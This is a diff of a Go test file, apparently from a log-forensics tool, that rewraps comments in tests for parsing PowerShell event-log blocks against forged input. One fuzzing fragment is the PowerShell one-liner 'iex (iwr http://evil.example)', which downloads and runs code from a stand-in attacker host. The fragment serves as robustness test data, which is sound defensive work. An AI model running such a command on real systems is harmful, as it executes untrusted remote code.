@@ -12,7 +12,8 @@ import (
 	"hunt/evtx/evtxtest"
 )
 
-// contextText writes a block as PowerShell does: of PowerShell/Operational with names of several words, of the classic log with a tab.
+// contextText writes a block as PowerShell does: of PowerShell/Operational with names of several
+// words, of the classic log with a tab.
 func contextText(l *keyLayout, names []string, values map[string]string) string {
 	var b strings.Builder
 	for i, k := range l.keys {
@@ -101,7 +102,8 @@ func blockValues(b *block) map[string]string {
 
 func ambiguousKeys(b *block) []string { return texts(b.appendAmbiguous(nil)) }
 
-// drawForged draws a text that somebody made who knows the block: line breaks of all kinds, lines like its own, whole blocks.
+// drawForged draws a text that somebody made who knows the block: line breaks of all kinds, lines
+// like its own, whole blocks.
 func drawForged(t *rapid.T, l *keyLayout, names []string, label string) string {
 	pieces := []string{"\r\n", "\n", "\r", "\t", "\u2028", "\v", " ", "=", "}", "iex (iwr http://evil.example)", "        ", "\x85"}
 	for i := range l.keys {
@@ -177,7 +179,8 @@ func TestSeveralLinesAloneAreNotAmbiguous(t *testing.T) {
 	}
 }
 
-// A naive reading: all choices of lines for the keys are tried, and the first in the order that the rule gives is taken.
+// A naive reading: all choices of lines for the keys are tried, and the first in the order that the
+// rule gives is taken.
 func naiveReadings(l *keyLayout, text string, how reading) [][]int {
 	type line struct{ key, n int }
 	var lines []line
